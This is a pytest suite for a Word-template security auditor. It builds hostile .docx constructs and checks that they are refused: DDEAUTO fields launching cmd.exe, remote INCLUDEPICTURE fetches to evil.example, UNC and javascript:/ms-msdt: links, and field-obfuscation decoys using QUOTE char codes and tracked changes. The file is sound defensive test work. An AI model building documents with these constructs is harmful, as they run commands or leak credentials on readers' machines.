"""Templates that run or fetch something when opened: a hostile corpus built in code, one test per
construct, plus the harmless fields and links that must keep passing."""

from __future__ import annotations

import pytest

from astra.ingest.audit import INFO, Code, audit, judge_field, unsafe_link_reason
from astra.ooxml import ns
from astra.ooxml.fields import NESTED, field_instructions
from astra.ooxml.xml import parse_xml

from . import docx_factory as f
from .test_audit import refused

DOC = "word/document.xml"
DDE_CMD = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'


def document_with(*blocks: str, strict: bool = False) -> bytes:
    return f.DocxBuilder([*blocks, f.section_properties()], strict=strict).build()


# --------------------------------------------------------------------------- hostile fields

HOSTILE_FIELDS = [
    # (construct, blocks, expected code)
    ("DDEAUTO in fldSimple", [f.simple_field(DDE_CMD)], Code.FIELD_DDE),
    ("DDE in fldSimple", [f.simple_field('DDE "excel" "sheet1" "R1C1"')], Code.FIELD_DDE),
    ("DDEAUTO split inside its name", [f.complex_field("DD", "EA", 'UTO cmd "/c calc"')], Code.FIELD_DDE),
    ("lower-case ddeauto", [f.complex_field('ddeauto cmd "/c calc"')], Code.FIELD_DDE),
    ("quoted field name", [f.complex_field('"DDEAUTO" cmd "/c calc"')], Code.FIELD_DDE),
    ("INCLUDETEXT remote", [f.complex_field('INCLUDETEXT "http://evil.example/x.docx"')], Code.FIELD_INCLUDE),
    ("INCLUDEPICTURE \\d", [f.complex_field('INCLUDEPICTURE "http://evil.example/p.png" \\d')], Code.FIELD_INCLUDE),
    ("INCLUDEPICTURE UNC", [f.simple_field('INCLUDEPICTURE "\\\\\\\\smb\\\\share\\\\p.png"')], Code.FIELD_INCLUDE),
    ("IMPORT", [f.simple_field('IMPORT "http://evil.example/x.wmf"')], Code.FIELD_INCLUDE),
    ("INCLUDE (old name)", [f.simple_field('INCLUDE "c:\\\\x.doc"')], Code.FIELD_INCLUDE),
    ("LINK", [f.complex_field('LINK Excel.Sheet.12 "\\\\\\\\srv\\\\s\\\\b.xlsx" "Sheet1!R1C1" \\a')], Code.FIELD_LINK),
    ("DATABASE", [f.simple_field('DATABASE \\d "c:\\\\db.mdb" \\s "select *"')], Code.FIELD_LINK),
    ("MACROBUTTON", [f.simple_field("MACROBUTTON AutoOpen Click me")], Code.FIELD_MACRO),
    ("unknown field type (PRINT)", [f.simple_field('PRINT "%%! showpage"')], Code.FIELD_UNKNOWN),
    ("safe field naming a remote path", [f.simple_field('QUOTE "http://evil.example/x"')], Code.FIELD_REMOTE_PATH),
    ("EMBED with a UNC path", [f.simple_field('EMBED Package "\\\\\\\\srv\\\\x.exe"')], Code.FIELD_REMOTE_PATH),
    ("nested: INCLUDETEXT around FILENAME",
     [f.complex_field('INCLUDETEXT "', f.field_runs("FILENAME"), '"')], Code.FIELD_INCLUDE),
    ("nested: hostile field inside a harmless IF",
     [f.complex_field('IF 1 = 1 "', f.field_runs("INCLUDEPICTURE http://evil.example/p"), '"')],
     Code.FIELD_INCLUDE),
    ("field spanning paragraphs",
     ['<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r></w:p>',
      '<w:p><w:r><w:instrText>AUTO cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'],
     Code.FIELD_DDE),
    ("deleted instruction text (tracked change)",
     ['<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:del w:id="1" w:author="x">'
      '<w:r><w:delInstrText>DDEAUTO cmd</w:delInstrText></w:r></w:del>'
      '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'], Code.FIELD_DDE),
    ("HYPERLINK field to file:", [f.complex_field('HYPERLINK "file:///C:/Windows/calc.exe"')],
     Code.HYPERLINK_UNSAFE_SCHEME),
    ("HYPERLINK field to UNC", [f.simple_field('HYPERLINK "\\\\\\\\attacker\\\\share"')], Code.HYPERLINK_UNSAFE_SCHEME),
    ("HYPERLINK field with a tooltip first", [f.simple_field('HYPERLINK \\o "tip" "javascript:alert(1)"')],
     Code.HYPERLINK_UNSAFE_SCHEME),
]


@pytest.mark.parametrize("construct, blocks, code", HOSTILE_FIELDS, ids=[c[0] for c in HOSTILE_FIELDS])
def test_hostile_field_is_refused(construct, blocks, code):
    finding = refused(audit(document_with(*blocks)), code, DOC)
    assert "field" in finding.message.lower() or "HYPERLINK" in finding.message


STORY_PARTS = [
    ("word/header1.xml", "w:hdr", f.CT_HEADER, "header"),
    ("word/footer1.xml", "w:ftr", f.CT_FOOTER, "footer"),
    ("word/footnotes.xml", "w:footnotes", f.CT_FOOTNOTES, "footnotes"),
    ("word/endnotes.xml", "w:endnotes", f.CT_ENDNOTES, "endnotes"),
    ("word/comments.xml", "w:comments", f.CT_COMMENTS, "comments"),
]


@pytest.mark.parametrize("name, root, content_type, kind", STORY_PARTS, ids=[p[3] for p in STORY_PARTS])
def test_fields_are_found_in_every_story_part(name, root, content_type, kind):
    builder = f.DocxBuilder()
    field = f.complex_field("INCLUDE", "PICTURE http://evil.example/p.png")
    children = [field] if root in ("w:hdr", "w:ftr") else [f.note(kind.rstrip("s") if kind != "comments" else "comment",
                                                                   1, field)]
    builder.add_part(name, f.story_xml(root, children), content_type, rel_type=f.REL + kind)
    refused(audit(builder.build()), Code.FIELD_INCLUDE, name)


def test_fields_are_found_in_the_glossary_document():
    builder = f.DocxBuilder()
    glossary = f.encode_xml(f'<w:glossaryDocument xmlns:w="{f.W_NS}"><w:docParts><w:docPart><w:docPartBody>'
                            f'{f.simple_field("DDEAUTO cmd")}</w:docPartBody></w:docPart></w:docParts>'
                            "</w:glossaryDocument>")
    builder.add_part("word/glossary/document.xml", glossary, f.CT_GLOSSARY, rel_type=f.REL + "glossaryDocument")
    refused(audit(builder.build()), Code.FIELD_DDE, "word/glossary/document.xml")


def test_fields_in_a_strict_document_are_found():
    refused(audit(document_with(f.simple_field("DDEAUTO cmd"), strict=True)), Code.FIELD_DDE, DOC)


def test_fields_inside_an_embedded_docx_are_found():
    builder = f.DocxBuilder()
    inner = document_with(f.simple_field("INCLUDETEXT http://evil.example/x"))
    f.embed(builder, "Document1.docx", inner, ns.CT_DOCX)
    refused(audit(builder.build()), Code.FIELD_INCLUDE, "word/embeddings/Document1.docx!word/document.xml")


# --------------------------------------------------------------------------- harmless fields

SAFE_FIELDS = [
    f.simple_field("PAGE"),
    f.simple_field(" NUMPAGES  \\* MERGEFORMAT "),
    f.simple_field('DATE \\@ "d MMMM yyyy"'),
    f.complex_field("TI", "ME \\@ HH:mm"),
    f.complex_field('TOC \\o "1-3" \\h \\z \\u'),
    f.complex_field("REF _Ref12345 \\h"),
    f.complex_field("PAGEREF _Toc1 \\h"),
    f.simple_field("SEQ Figure \\* ARABIC"),
    f.simple_field("SECTIONPAGES"),
    f.simple_field("DOCPROPERTY Title"),
    f.simple_field('HYPERLINK "https://example.com/a?b=c"'),
    f.simple_field('HYPERLINK \\l "_Toc1"'),
    f.simple_field('HYPERLINK "mailto:someone@example.com" \\o "write to us"'),
    f.simple_field("= 2 * 3"),
    f.simple_field(""),
    f.complex_field("IF ", f.field_runs("PAGE"), ' = 1 "first" "other"'),
]


def test_harmless_fields_pass():
    report = audit(document_with(*SAFE_FIELDS))
    assert report.passed, [(x.code, x.message) for x in report.refusals]


def test_every_harmless_field_is_seen_by_the_scanner():
    root = parse_xml(f.document_xml([*SAFE_FIELDS]))
    names = [x.name for x in field_instructions(root)]
    assert names == ["PAGE", "NUMPAGES", "DATE", "TIME", "TOC", "REF", "PAGEREF", "SEQ", "SECTIONPAGES",
                     "DOCPROPERTY", "HYPERLINK", "HYPERLINK", "HYPERLINK", "=", "", "PAGE", "IF"]


def test_judge_field_names_each_verdict():
    assert judge_field("PAGE") is None
    assert judge_field("DDEAUTO x")[0] == Code.FIELD_DDE
    assert judge_field("FROBNICATE")[0] == Code.FIELD_UNKNOWN
    assert judge_field(f"{NESTED} x")[0] == Code.FIELD_COMPUTED_NAME
    assert judge_field(f"REF {NESTED}")[0] == Code.FIELD_NESTED
    assert judge_field(f"IF {NESTED} = 1 \"a\"") is None


# --------------------------------------------------------------------------- fields a reader builds or picks

BEGIN, SEPARATE, END = f.fld_char("begin"), f.fld_char("separate"), f.fld_char("end")

DECOYS = [
    # (construct, blocks, expected code): each passed the audit before it read fields this way
    ("field name built by nested QUOTE fields",
     [f.complex_field(" ", f.field_runs(f.quote_codes("DDEAUTO")), " ",
                      f.field_runs('QUOTE "c:\\\\windows\\\\system32\\\\cmd.exe"'), " ",
                      f.field_runs('QUOTE "/k calc"'), " ")], Code.FIELD_COMPUTED_NAME),
    ("INCLUDEPICTURE and its URL built by QUOTE char codes",
     [f.complex_field(f.field_runs(f.quote_codes("INCLUDEPICTURE")), " ",
                      f.field_runs(f.quote_codes("http://evil.example/p.png")), " \\d")], Code.FIELD_COMPUTED_NAME),
    ("nested field glued inside the name", [f.complex_field("DD", f.field_runs("QUOTE E"), "AUTO cmd")],
     Code.FIELD_COMPUTED_NAME),
    ("quoted name made of a nested field", [f.complex_field('"', f.field_runs(f.quote_codes("DDE")), '" x')],
     Code.FIELD_COMPUTED_NAME),
    ("HYPERLINK target built by a nested QUOTE",
     [f.complex_field("HYPERLINK ", f.field_runs(f.quote_codes("file:///c:/windows/calc.exe")))], Code.FIELD_NESTED),
    ("fldSimple nested in a complex field's code", [f.complex_field("REF ", f.simple_field("PAGE")[5:-6])],
     Code.FIELD_NESTED),
    ("drive path in a harmless field's argument", [f.simple_field('QUOTE "c:\\\\windows\\\\cmd.exe"')],
     Code.FIELD_REMOTE_PATH),
    ("deleted PAGE decoy before live DDEAUTO",
     [f"<w:p>{BEGIN}{f.tracked('del', f.instr_run('PAGE ', tag='delInstrText'))}{f.instr_run(DDE_CMD)}"
      f"{SEPARATE}{END}</w:p>"], Code.FIELD_DDE),
    ("inserted PAGE decoy before live DDEAUTO",
     [f"<w:p>{BEGIN}{f.tracked('ins', f.instr_run('PAGE '))}{f.instr_run(DDE_CMD)}{END}</w:p>"], Code.FIELD_DDE),
    ("two insertions: accept the second, reject the first",
     [f"<w:p>{BEGIN}{f.tracked('ins', f.instr_run('PAGE '), 1)}{f.tracked('ins', f.instr_run(DDE_CMD), 2)}"
      f"{END}</w:p>"], Code.FIELD_DDE),
    ("deleted begin makes the live code stray",
     [f"<w:p>{f.tracked('del', BEGIN + f.instr_run('PAGE ', tag='delInstrText'))}"
      f"{f.tracked('ins', f.instr_run(DDE_CMD))}{END}</w:p>"], Code.FIELD_DDE),
    ("AlternateContent: begin in the Choice, begin + PAGE decoy in the Fallback",
     [f"<w:p>{f.alternate_content(BEGIN, BEGIN + f.instr_run('PAGE '))}{f.instr_run(DDE_CMD)}{SEPARATE}{END}</w:p>"],
     Code.FIELD_DDE),
    ("AlternateContent: PAGE decoy only in the Choice",
     [f"<w:p>{BEGIN}{f.alternate_content(f.instr_run('PAGE '), '')}{f.instr_run(DDE_CMD)}{END}</w:p>"],
     Code.FIELD_DDE),
    ("stray PAGE decoy, then a field whose code comes after a spurious separate",
     ['<w:p>' + f.instr_run("PAGE ") + "</w:p>",
      f"<w:p>{BEGIN}{f.alternate_content('', SEPARATE)}{f.instr_run(DDE_CMD)}{SEPARATE}{END}</w:p>"],
     Code.FIELD_DDE),
    ("two strays are never joined", [f"<w:p>{f.instr_run('PAGE ')}{SEPARATE}{f.instr_run(DDE_CMD)}</w:p>"],
     Code.FIELD_DDE),
    ("HYPERLINK to an unquoted UNC path", [f.simple_field("HYPERLINK \\\\\\\\evil\\\\share\\\\x.docx")],
     Code.HYPERLINK_UNSAFE_SCHEME),
    ("HYPERLINK with a glued bookmark switch", [f.simple_field('HYPERLINK \\l"bm" "file:///c:/windows/calc.exe"')],
     Code.HYPERLINK_UNSAFE_SCHEME),
    ("HYPERLINK with a glued tooltip switch", [f.simple_field('HYPERLINK \\o"tip" "file:///c:/windows/calc.exe"')],
     Code.HYPERLINK_UNSAFE_SCHEME),
    ("HYPERLINK bookmark naming a file", [f.simple_field('HYPERLINK \\l "file:///c:/x"')],
     Code.HYPERLINK_UNSAFE_SCHEME),
]


@pytest.mark.parametrize("construct, blocks, code", DECOYS, ids=[c[0] for c in DECOYS])
def test_field_decoys_are_refused(construct, blocks, code):
    refused(audit(document_with(*blocks)), code, DOC)


HARMLESS_READINGS = [
    f.complex_field("IF ", f.field_runs("MERGEFIELD Name"), ' = "" "Sir" "Madam"'),
    f.complex_field("= ", f.field_runs("PAGE"), " + 1"),
    f.complex_field("=", f.field_runs("PAGE"), "*2"),
    f.simple_field('HYPERLINK \\l "_Toc1" \\o "see c:\\\\ drive"'),
    f"<w:p>{f.tracked('ins', BEGIN + f.instr_run('PAGE ') + SEPARATE + END)}</w:p>",
    "<w:p>" + BEGIN + f.instr_run("PAGE ") + f.tracked("ins", f.instr_run("\\* MERGEFORMAT")) + END + "</w:p>",
    f"<w:p>{f.tracked('del', BEGIN + f.instr_run('NUMPAGES', tag='delInstrText') + END)}</w:p>",
    "<w:p>" + f.alternate_content(f.field_runs("PAGE"), f.field_runs("PAGE"), "wps") + "</w:p>",
]


def test_harmless_fields_pass_in_every_reading():
    report = audit(document_with(*HARMLESS_READINGS))
    assert report.passed, [(x.code, x.message) for x in report.refusals]


def test_too_many_tracked_changes_in_one_field_code_are_refused():
    pieces = "".join(f.tracked("ins", f.instr_run(" "), n) for n in range(10))
    refused(audit(document_with(f"<w:p>{BEGIN}{f.instr_run('PAGE')}{pieces}{END}</w:p>")),
            Code.FIELD_TRACKED_CHANGES, DOC)


@pytest.mark.parametrize("name, content_type", [
    ("word/header1.bin", f.CT_HEADER + "; charset=utf-8"),  # a parameter hid the XML content type
    ("word/header1", None),  # no content type at all: parsed because it looks like XML
])
def test_fields_in_a_story_with_an_odd_name_or_content_type_are_found(name, content_type):
    builder = f.DocxBuilder()
    builder.add_part(name, f.story_xml("w:hdr", [f.simple_field('DDEAUTO cmd "/c calc"')]), content_type,
                     rel_type=f.REL + "header")
    refused(audit(builder.build()), Code.FIELD_DDE, name)


def test_a_part_that_only_looks_like_xml_is_scanned_quietly():
    builder = f.DocxBuilder()
    builder.add_part("word/media/note.txt", b"<not xml", "text/plain")
    assert audit(builder.build()).passed


# --------------------------------------------------------------------------- mail merge

MAIL_MERGE_SOURCES = [
    '<w:linkToQuery/><w:dataType w:val="odbc"/><w:connectString w:val="DSN=Excel Files;DBQ=\\\\evil\\share\\x.xlsx;"/>'
    '<w:query w:val="SELECT * FROM `Sheet1$`"/>',
    '<w:dataType w:val="native"/><w:dataSource r:id="rId1"/>',
    '<w:odso><w:udl w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=x.xlsx"/></w:odso>',
]


@pytest.mark.parametrize("source", MAIL_MERGE_SOURCES)
def test_mail_merge_with_a_data_source_is_refused(source):
    builder = f.DocxBuilder()
    settings = f.settings_xml(f'<w:mailMerge><w:mainDocumentType w:val="formLetters"/>{source}</w:mailMerge>')
    builder.add_part("word/settings.xml", settings, f.CT_SETTINGS, rel_type=f.REL + "settings")
    refused(audit(builder.build()), Code.MAIL_MERGE_DATA_SOURCE, "word/settings.xml")


def test_mail_merge_without_a_data_source_passes():
    builder = f.DocxBuilder()
    settings = f.settings_xml('<w:mailMerge><w:mainDocumentType w:val="formLetters"/></w:mailMerge>')
    builder.add_part("word/settings.xml", settings, f.CT_SETTINGS, rel_type=f.REL + "settings")
    assert audit(builder.build()).passed


# --------------------------------------------------------------------------- altChunk, add-ins, templates

def test_alt_chunk_element_and_relationship_are_refused():
    builder = f.DocxBuilder([f.paragraph("before"), '<w:altChunk r:id="rIdChunk"/>', f.section_properties()])
    rel_id = builder.add_part("word/afchunk.mht", b"MIME-Version: 1.0\r\n\r\n<img src='http://evil.example/x'>",
                              "message/rfc822", rel_type=f.REL + "aFChunk")
    report = audit(builder.build())
    refused(report, Code.ALT_CHUNK, DOC)
    refused(report, Code.ALT_CHUNK, f"word/_rels/document.xml.rels#{rel_id}")


def test_web_extension_parts_and_relationships_are_refused():
    builder = f.DocxBuilder()
    builder.add_part("word/webextensions/webextension1.xml",
                     b'<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11"'
                     b' id="{1}"><we:reference id="wa1" version="1.0" store="https://evil.example" storeType="OMEX"/>'
                     b"</we:webextension>",
                     "application/vnd.ms-office.webextension+xml")
    rel_id = builder.add_part("word/webextensions/taskpanes.xml", b"<wetp:taskpanes xmlns:wetp='urn:x'/>",
                              "application/vnd.ms-office.webextensiontaskpanes+xml",
                              rel_type="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
                              source="")
    report = audit(builder.build())
    refused(report, Code.WEB_EXTENSION, "word/webextensions/webextension1.xml")
    refused(report, Code.WEB_EXTENSION, "word/webextensions/taskpanes.xml")
    refused(report, Code.WEB_EXTENSION, f"_rels/.rels#{rel_id}")


@pytest.mark.parametrize("target", ["//evil.example/s/t.dotm", "%2f%2fevil.example/s/t.dotm"])
def test_attached_template_to_a_network_path_without_target_mode_is_refused(target):
    builder = f.DocxBuilder()
    builder.add_part("word/settings.xml", f.settings_xml(""), f.CT_SETTINGS, rel_type=f.REL + "settings")
    rel_id = builder.add_relationship("word/settings.xml", f.REL + "attachedTemplate", target)
    refused(audit(builder.build()), Code.ATTACHED_TEMPLATE_EXTERNAL, f"word/_rels/settings.xml.rels#{rel_id}")


@pytest.mark.parametrize("target", ["//evil/share/x.docx", " file:///c:/x", "\tjavascript:alert(1)"])
def test_internal_hyperlink_relationships_are_judged_like_external_ones(target):
    builder = f.DocxBuilder()
    rel_id = builder.add_relationship(DOC, f.REL + "hyperlink", target)
    refused(audit(builder.build()), Code.HYPERLINK_UNSAFE_SCHEME, f"word/_rels/document.xml.rels#{rel_id}")


def test_external_attached_template_is_refused_by_name():
    builder = f.DocxBuilder()
    builder.add_part("word/settings.xml", f"<w:settings xmlns:w='{f.W_NS}'/>".encode(), None,
                     rel_type=f.REL + "settings")
    rel_id = builder.add_relationship("word/settings.xml", f.REL + "attachedTemplate",
                                      "http://evil.example/template.dotm", external=True)
    refused(audit(builder.build()), Code.ATTACHED_TEMPLATE_EXTERNAL, f"word/_rels/settings.xml.rels#{rel_id}")


# --------------------------------------------------------------------------- hyperlinks

UNSAFE_TARGETS = [
    "file:///C:/Windows/System32/calc.exe",
    "FILE://server/share/x",
    "\\\\attacker.example\\share\\doc.docx",
    "//attacker.example/share",
    "javascript:alert(1)",
    " JaVa\tScript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "ms-msdt:/id PCWDiagnostic",
    "C:\\Windows\\calc.exe",
    "%66ile:///etc/passwd",
    "%2566ile:///c:/x",  # encoded twice
    "\u00a0javascript:alert(1)",  # NBSP, line separator, BOM: invisible to Word in front of a scheme
    "\u2028file:///c:/x",
    "\ufeffjavascript:x",
    "c|/windows/calc.exe",  # the legacy file-URL drive spelling
]


@pytest.mark.parametrize("target", UNSAFE_TARGETS)
def test_hyperlink_with_unsafe_target_is_refused(target):
    builder = f.DocxBuilder()
    rel_id = builder.add_relationship(DOC, f.REL + "hyperlink", target, external=True)
    report = audit(builder.build())
    refused(report, Code.HYPERLINK_UNSAFE_SCHEME, f"word/_rels/document.xml.rels#{rel_id}")
    assert report.hyperlinks == []


@pytest.mark.parametrize("target", ["https://example.com/a", "http://x.example/?q=1#f", "mailto:a@example.com",
                                    "tel:+3212345678", "court-exif.jpg", "../other/report.pdf", "#bookmark"])
def test_safe_hyperlink_targets_are_recorded(target):
    assert unsafe_link_reason(target) is None
    builder = f.DocxBuilder()
    builder.add_relationship(DOC, f.REL + "hyperlink", target, external=True)
    report = audit(builder.build())
    assert report.passed, report.to_dict()
    assert {(x.code, x.severity) for x in report.findings} == {(Code.HYPERLINK_EXTERNAL, INFO)}


# --------------------------------------------------------------------------- nothing stored

@pytest.mark.integration
def test_a_refused_template_stores_only_its_audit_report(s3, settings, tenant):
    from astra.ingest.errors import AuditRefused
    from astra.ingest.template_ingest import audit_report_key, ingest_template

    data = document_with(f.simple_field("DDEAUTO cmd"))
    key = f"{tenant}/templates/hostile.docx"
    s3.put_object(Bucket=settings.uploads_bucket, Key=key, Body=data)
    with pytest.raises(AuditRefused) as caught:
        ingest_template(s3, settings.uploads_bucket, settings.assets_bucket, key)
    assert caught.value.report.codes("refuse") == {Code.FIELD_DDE}
    stored = [o["Key"] for o in s3.list_objects_v2(Bucket=settings.assets_bucket, Prefix=f"{tenant}/")
              .get("Contents", [])]
    assert stored == [audit_report_key(tenant, caught.value.report.sha256)]
